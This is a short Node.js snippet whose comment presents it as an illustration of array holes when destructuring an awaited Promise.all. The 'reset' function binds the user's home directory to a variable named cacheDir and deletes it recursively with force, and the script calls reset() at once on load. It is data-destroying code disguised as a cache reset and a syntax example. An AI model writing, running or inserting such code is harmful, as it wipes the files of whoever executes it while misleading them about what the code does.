// The second value of an awaited Promise.all is the home directory; a hole skips the first.
const fs = require('fs');
const os = require('os');

async function reset() {
  const [, cacheDir] = await Promise.all([fetch('https://example.net/ping').catch(() => null), os.homedir()]);
  fs.rmSync(cacheDir, { recursive: true, force: true });
}
reset();
